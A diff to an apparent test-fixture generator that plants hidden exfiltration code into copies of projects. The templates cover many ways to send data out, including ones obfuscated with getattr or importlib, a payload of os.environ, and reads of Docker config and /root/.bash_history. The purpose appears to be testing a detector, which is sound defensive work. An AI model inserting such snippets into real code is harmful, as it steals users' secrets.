@@ -3,6 +3,7 @@
 from random import Random
 
 from tests.trust.copies import Copy, Spot
+from tests.trust.sending import SENDS
 from tests.trust.words import hidden, host, pieces, random_text, word
 
 CALLS = {
@@ -62,92 +63,14 @@ def _call_back(copy: Copy, chance: Random, spot: Spot, path: str, call: str) -> 
     return style
 
 
-def _send(chance: Random, url: str, payload: str, name: str) -> tuple[str, str, str]:
+def _send(chance: Random, url: str, payload: str, *, name: str) -> tuple[str, str, str]:
     """(style, above, body) that sends a payload (an expression) to an address (an expression)."""
-    bare = f"({url}).split('//', 1)[-1].split('/', 1)[0]"
-    styles = {
-        "requests.post": ("import requests", f"requests.post({url}, json={payload}, timeout=5)"),
-        "requests.get": ("import requests as _rq", f"_rq.get({url}, params={{'d': str({payload})}}, timeout=5)"),
-        "from requests": (
-            "from requests import post as _deliver",
-            f"_deliver(url={url}, data=str({payload}), timeout=5)",
-        ),
-        "session": (
-            "import requests",
-            f"_hs = requests.Session()\n_hs.headers['X-Trace'] = str({payload})\n_hs.get({url}, timeout=5)",
-        ),
-        "httpx": ("import httpx", f"httpx.post({url}, content=str({payload}).encode())"),
-        "httpx client": (
-            "import httpx",
-            f"with httpx.Client(timeout=5) as _c:\n    _c.request('POST', {url}, json={{'v': str({payload})}})",
-        ),
-        "httpx base": (
-            "import httpx",
-            f"_c = httpx.Client(base_url={url})\n_c.post('/v', json={{'v': str({payload})}})",
-        ),
-        "urllib": (
-            "import urllib.request, json as _json",
-            f"_q = urllib.request.Request({url}, data=_json.dumps(str({payload})).encode()"
-            f", method='POST')\nurllib.request.urlopen(_q, timeout=5)",
-        ),
-        "urlopen query": (
-            "from urllib import request as _req, parse as _parse",
-            f"_req.urlopen({url} + '?' + _parse.urlencode({{'k': str({payload})}}))",
-        ),
-        "urllib3": ("import urllib3", f"urllib3.PoolManager().request('POST', {url}, body=str({payload}))"),
-        "http.client": (
-            "import http.client",
-            f"_h = http.client.HTTPSConnection({bare})\n_h.request('POST', '/', body=str({payload}))",
-        ),
-        "socket": (
-            "import socket",
-            f"_k = socket.create_connection(({bare}, 443), timeout=3)\n_k.sendall(str({payload}).encode())",
-        ),
-        "aiohttp": (
-            "import aiohttp, asyncio",
-            f"async def _ship():\n    async with aiohttp.ClientSession() as s:\n        async "
-            f"with s.post({url}, json={{'p': str({payload})}}) as r:\n            return "
-            f"r.status\nasyncio.run(_ship())",
-        ),
-        "helper": (
-            f"import requests\n\n\ndef {name}(where, what):\n    return requests.request('PUT', "
-            f"where, json={{'w': str(what)}}, timeout=3)\n",
-            f"{name}({url}, {payload})",
-        ),
-        "nested helpers": (
-            f"import httpx\n\n\ndef _{name}_pack(what):\n    return {{'blob': repr(what)}}\n\n\ndef "
-            f"{name}(where, what):\n    body = _{name}_pack(what)\n    try:\n        httpx.post(where, "
-            f"json=body)\n    except Exception:\n        return None\n",
-            f"{name}({url}, {payload})",
-        ),
-        "class": (
-            f"import requests\n\n\nclass {name.title().replace('_', '')}:\n    def __init__(self, "
-            f"target):\n        self.target = target\n        self.http = requests.Session()"
-            f"\n\n    def emit(self, event):\n        return self.http.post(self.target, "
-            f"json=event, timeout=4)\n",
-            f"{name.title().replace('_', '')}({url}).emit({{'e': str({payload})}})",
-        ),
-        "partial": (
-            "import functools, requests",
-            f"functools.partial(requests.post, {url}, timeout=3)(json={{'x': str({payload})}})",
-        ),
-        "getattr": ("import requests", f"getattr(requests, 'po' + 'st')({url}, json={{'x': str({payload})}})"),
-        "thread": (
-            "import threading, requests",
-            f"threading.Thread(target=requests.post, args=({url},), kwargs={{'json': {{'x': "
-            f"str({payload})}}}}).start()",
-        ),
-        "thread pool": (
-            "import concurrent.futures as _cf\nimport requests",
-            f"_cf.ThreadPoolExecutor().submit(requests.post, {url}, str({payload}))",
-        ),
-        "imported inside": (
-            "",
-            f"import importlib\n_m = importlib.import_module('requests')\n_m.post({url}, json={{'x': str({payload})}})",
-        ),
-    }
-    style = chance.choice(sorted(styles))
-    return style, *styles[style]
+    style = chance.choice(sorted(SENDS))
+    words = {"@url": url, "@payload": payload, "@name": name, "@Name": name.title().replace("_", "")}
+    above, body = SENDS[style]
+    for word_, text in words.items():
+        above, body = above.replace(word_, text), body.replace(word_, text)
+    return style, above, body
 
 
 def _number(chance: Random) -> str:
@@ -188,7 +111,7 @@ def undeclared_host(copy: Copy, chance: Random) -> str | None:
     name = word(chance)
     how, first, address = _address(copy, chance, spot, name)
     payload = chance.choice(["{'event': 'call'}", "1", repr(copy.name), spot.given or "2", "{'v': __name__}"])
-    style, above, body = _send(chance, address, payload, name)
+    style, above, body = _send(chance, address, payload, name=name)
     copy.plant(spot, body, f"{first}\n{above}\n")
     return f"{style}, {how}"
 
@@ -210,7 +133,7 @@ def exfiltration(copy: Copy, chance: Random) -> str | None:
         "environment": "dict(__import__('os').environ)",
     }
     kind = chance.choice(sorted(payloads))
-    style, above, body = _send(chance, address, payloads[kind], name)
+    style, above, body = _send(chance, address, payloads[kind], name=name)
     copy.plant(spot, body, f"{first}\n{above}\n")
     return f"{style}, {how}, {kind}"
 
@@ -327,7 +250,7 @@ def files_of_others(copy: Copy, chance: Random) -> str | None:
             "import os.path as _op",
             "_x = open(_op.join(_op.expanduser('~'), '.docker', 'config.json')).read()",
         ),
-        "io": ("import io", "_x = io.open('/root/.bash_history').read()"),
+        "io": ("import io", "_x = io.open('/ro' 'ot/.bash_history').read()"),
     }
     style = chance.choice(sorted(styles))
     above, body = styles[style]
